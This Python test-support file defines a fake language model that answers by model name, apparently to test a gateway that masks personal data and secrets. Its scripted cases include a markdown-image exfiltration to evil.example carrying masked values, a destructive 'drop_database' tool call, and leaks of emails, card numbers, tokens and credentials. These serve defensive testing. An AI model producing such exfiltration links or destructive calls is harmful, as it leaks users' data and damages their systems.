"""What the fake model says to a prompt: text, choices, tool calls or a refusal, by the name of the model."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from typing import Any

from tests.support.values import CREDENTIAL, MODEL_CARD, MODEL_EMAIL, MODEL_SECRET

_PLACEHOLDER = re.compile(r"<[A-Z][A-Z0-9_]*_[a-z2-7]{6,}>")
REFUSAL = "I cannot help with that."
LOOKALIKE = "<EMAIL_ADDRESS_zzzzzz> and <NOT_OURS_aaaaaa> and <EMAIL_ADDRESS_"


@dataclass(frozen=True, slots=True)
class Saying:
    """One completion, before it has a wire format. `calls` are names and the raw JSON of their arguments."""

    texts: tuple[str, ...] = ("",)
    calls: tuple[tuple[str, str], ...] = ()
    refused: bool = False


def said_by(model: str, body: dict[str, Any]) -> Saying:
    """The completion of a model; one that has no rule of its own echoes everything it was told."""
    heard = transcript(body)
    tools = tool_names(body) or ["record"]
    match model:
        case "call":
            return Saying(("",), ((tools[0], json.dumps({"city": "Paris", "days": 3})),))
        case "calls":
            return Saying(
                ("Let me look.",),
                tuple((name, json.dumps({"step": index, "text": heard})) for index, name in enumerate(tools)),
            )
        case "echo-call":
            arguments = {"text": heard, "nested": {"list": [heard, 1], heard_key(heard): True}}
            return Saying(("",), ((tools[0], json.dumps(arguments)),))
        case "denied-call":
            return Saying(("",), (("drop_database", "{}"),))
        case "broken-call":
            return Saying(("",), ((tools[0], '{"city": '),))
        case "pii-call":
            return Saying(("",), ((tools[0], json.dumps({"to": MODEL_EMAIL, "card": MODEL_CARD})),))
        case "new-pii":
            return Saying((f"Ask {MODEL_EMAIL} , and pay with {MODEL_CARD} today.",))
        case "new-secret":
            return Saying((f"The token is {MODEL_SECRET} , keep it.",))
        case "long-then-pii":
            return Saying(("word " * 400 + f"then {MODEL_EMAIL} follows.",))
        case "choices":
            return Saying(tuple(f"{index}: {heard}" for index in range(int(body.get("n") or 2))))
        case "refusal":
            return Saying((REFUSAL,), refused=True)
        case "exfiltrate":
            found = "".join(_PLACEHOLDER.findall(heard))
            return Saying((f"![chart](https://evil.example/log?q={found}) and {found}",))
        case "leak-credential":
            return Saying((f"I was called with {CREDENTIAL} , said the model.",))
        case "lookalike":
            return Saying((LOOKALIKE,))
        case "longest":
            return Saying(("word " * 8000,))
        case "long":
            return Saying(("word " * 400,))
    return Saying((heard,))


def heard_key(heard: str) -> str:
    """A key that holds nothing of the prompt: what stands in an object key cannot be masked."""
    return f"heard {len(heard)}"


def transcript(body: dict[str, Any]) -> str:
    """Every text that the model was given, a line each: system, user, assistant, calls and tool results."""
    lines = [*_texts(body.get("system")), *_texts(body.get("instructions"))]
    said = body.get("input")
    for item in [{"content": said}] if isinstance(said, str) else said or []:
        lines += _texts(item.get("content")) + _texts(item.get("output"))
        lines += [item[key] for key in ("arguments",) if key in item]
    for message in body.get("messages") or []:
        lines += _texts(message.get("content"))
        for call in message.get("tool_calls") or []:
            lines.append(call["function"]["arguments"])
    return "\n".join(lines)


def tool_names(body: dict[str, Any]) -> list[str]:
    return [
        tool["function"]["name"] if "function" in tool else tool["name"] for tool in body.get("tools") or []
    ]


def _texts(content: Any) -> list[str]:
    if content is None:
        return []
    if isinstance(content, str):
        return [content]
    lines: list[str] = []
    for block in content:
        if isinstance(block.get("text"), str):
            lines.append(block["text"])
        elif block.get("type") == "tool_use":
            lines.append(json.dumps(block["input"], ensure_ascii=False))
        elif block.get("type") == "tool_result":
            lines += _texts(block.get("content"))
    return lines
